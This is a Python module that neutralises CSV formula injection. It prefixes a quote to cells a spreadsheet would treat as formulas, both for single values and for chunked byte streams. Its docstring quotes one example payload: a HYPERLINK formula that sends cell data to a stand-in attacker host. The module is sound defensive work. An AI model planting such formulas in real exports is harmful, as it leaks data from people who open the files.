"""CSV cells a spreadsheet will not run: the OWASP rule against formula injection, as pure functions.

A crawled title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` is a formula to Excel or
LibreOffice when it starts a CSV cell. Every CSV an analyst can download (`tracker export --format
csv`, Datasette's `.csv`) therefore prefixes a single quote to a cell that begins with `=`, `+`,
`-`, `@`, a tab or a carriage return, unless the whole cell is a plain number (`-3`, `+1.5e3`), which
no spreadsheet reads as a formula. JSON Lines and the database keep the text as it was.

`neutralise_cell` works on one value (for csv.writer); `CsvStreamNeutraliser` on the bytes of a CSV
being streamed in chunks that may cut a cell anywhere (for Datasette's responses).
"""

from __future__ import annotations

import re
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
UTF8_BOM = "\ufeff"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_NUMBER_BYTES = re.compile(rb"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_TRIGGER_BYTES = frozenset(ord(c) for c in TRIGGERS)
_QUOTE, _COMMA, _NL, _CR = ord('"'), ord(","), ord("\n"), ord("\r")
_CELL_END = re.compile(rb"[,\n\r]")


def neutralise_cell(value: Any) -> Any:
    """`value` with a leading `'` if a spreadsheet would read it as a formula; anything else as is."""
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class CsvStreamNeutraliser:
    """Rewrites a CSV byte stream (RFC 4180 quoting, any chunking) so that no cell starts a formula.

    Feed it every chunk in order, then call `flush()`. The trigger characters, quotes, commas and
    line ends are ASCII, so UTF-8 text passes through untouched whatever the chunk boundaries."""

    def __init__(self) -> None:
        self._at_cell_start = True
        self._in_quotes = False
        self._quoted_start = False  # just after a cell's opening quote
        self._quote_seen = False  # a quote inside a quoted cell: its end, or the first of `""`
        self._pending = b""  # an unquoted cell starting with + or -, held until its end is seen

    def feed(self, data: bytes) -> bytes:
        """The neutralised bytes of `data` (some may be held back until the next chunk or flush)."""
        data, self._pending = self._pending + data, b""
        out = bytearray()
        i, n = 0, len(data)
        while i < n:
            if self._in_quotes:
                i = self._quoted(data, i, out)
            elif self._at_cell_start:
                i = self._cell_start(data, i, out)
                if i < 0:  # undecided: keep the rest for the next chunk
                    return bytes(out)
            else:
                end = _CELL_END.search(data, i)
                if end is None:
                    out += data[i:]
                    break
                out += data[i:end.end()]
                i = end.end()
                self._at_cell_start = True
        return bytes(out)

    def flush(self) -> bytes:
        """What is still held back, decided as if the stream ended here."""
        pending, self._pending = self._pending, b""
        if pending and not _NUMBER_BYTES.fullmatch(pending):
            return b"'" + pending
        return pending

    def _cell_start(self, data: bytes, i: int, out: bytearray) -> int:
        byte = data[i]
        if byte == _QUOTE:
            out.append(byte)
            self._in_quotes, self._quoted_start, self._at_cell_start = True, True, False
            return i + 1
        if byte in (_COMMA, _NL, _CR):  # an empty cell (a bare CR ends a row, as readers take it)
            out.append(byte)
            return i + 1
        self._at_cell_start = False
        if byte in (ord("+"), ord("-")):
            end = _CELL_END.search(data, i)
            if end is None:
                self._pending = data[i:]
                self._at_cell_start = True
                return -1
            if not _NUMBER_BYTES.fullmatch(data, i, end.start()):
                out.append(ord("'"))
        elif byte in _TRIGGER_BYTES:
            out.append(ord("'"))
        return i

    def _quoted(self, data: bytes, i: int, out: bytearray) -> int:
        if self._quote_seen:
            self._quote_seen = False
            if data[i] == _QUOTE:  # an escaped quote: still inside the cell
                out.append(_QUOTE)
                return i + 1
            self._in_quotes = False  # the cell ended at the quote before
            return i
        if self._quoted_start:
            self._quoted_start = False
            if data[i] in _TRIGGER_BYTES and not self._quoted_number(data, i):
                out.append(ord("'"))
        end = data.find(b'"', i)
        if end < 0:
            out += data[i:]
            return len(data)
        out += data[i:end + 1]
        self._quote_seen = True
        return end + 1

    @staticmethod
    def _quoted_number(data: bytes, i: int) -> bool:
        # Python's csv module quotes a cell only for a comma, quote or line end: never a bare number.
        # The cell must close at that quote (not `""`, an escaped quote), within this chunk.
        end = data.find(b'"', i)
        closes = 0 < end < len(data) - 1 and data[end + 1] != _QUOTE
        return closes and bool(_NUMBER_BYTES.fullmatch(data, i, end))
